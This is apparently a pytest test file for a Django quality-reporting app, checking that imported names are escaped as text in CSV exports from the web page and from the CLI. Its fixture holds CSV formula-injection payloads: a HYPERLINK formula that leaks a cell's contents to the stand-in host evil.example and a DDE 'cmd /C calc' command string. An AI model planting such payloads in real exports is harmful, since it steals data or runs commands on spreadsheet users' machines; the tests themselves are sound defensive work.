"""Names imported as agent, team or label never reach a manager's spreadsheet as formulas (page and CLI)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client

from qadesk.accounts.models import Agent, Team, User
from qadesk.interactions.models import Label
from qadesk.testing.clients import body

from .conftest import ReportData

pytestmark = pytest.mark.django_db

AGENT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TEAM = "+cmd|' /C calc'!A0"
LABEL = "@SUM(1+1)"


@pytest.fixture
def hostile_names(report_data: ReportData, agent: Agent) -> None:
    Agent.objects.filter(pk=agent.pk).update(display_name=AGENT)
    Team.objects.filter(pk=agent.team_id).update(name=TEAM)
    Label.objects.filter(pk=report_data.label.pk).update(name=LABEL)


YEAR = ["--from", "2026-01-01", "--to", "2026-12-31", "--format", "csv"]


def labels(text: str) -> list[str]:
    return [row["label"] for row in csv.DictReader(io.StringIO(text))]


@pytest.mark.usefixtures("hostile_names")
@pytest.mark.parametrize(("by", "name"), [("agent", AGENT), ("team", TEAM), ("label", LABEL)])
def test_it_writes_hostile_names_as_text_in_the_page_csv(client: Client, qa_lead: User, by: str, name: str) -> None:
    client.force_login(qa_lead)
    response = client.get("/reports/quality/", {"by": by, "format": "csv", "date_from": "2026-01-01", "date_to": "2026-12-31"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    groups = [row["Group"] for row in csv.DictReader(io.StringIO(body(response).decode("utf-8-sig")))]
    assert "'" + name in groups and name not in groups


@pytest.mark.usefixtures("hostile_names")
@pytest.mark.parametrize(("by", "name"), [("agent", AGENT), ("team", TEAM), ("label", LABEL)])
def test_it_writes_hostile_names_as_text_in_the_cli_csv(by: str, name: str) -> None:
    out = io.StringIO()
    call_command("qreport", "quality", "--by", by, *YEAR, stdout=out)
    assert "'" + name in labels(out.getvalue())


@pytest.mark.usefixtures("hostile_names")
def test_it_keeps_figures_as_numbers_beside_a_hostile_name() -> None:
    out = io.StringIO()
    call_command("qreport", "quality", "--by", "agent", *YEAR, stdout=out)
    row = next(r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["label"] == "'" + AGENT)
    assert (row["n"], row["iqs"]) == ("5", "90.0")


@pytest.mark.usefixtures("hostile_names")
def test_the_statistics_csv_writes_hostile_names_as_text() -> None:
    out = io.StringIO()
    call_command("qreport", "precision", "--by", "team", *YEAR, stdout=out)
    assert "'" + TEAM in labels(out.getvalue())
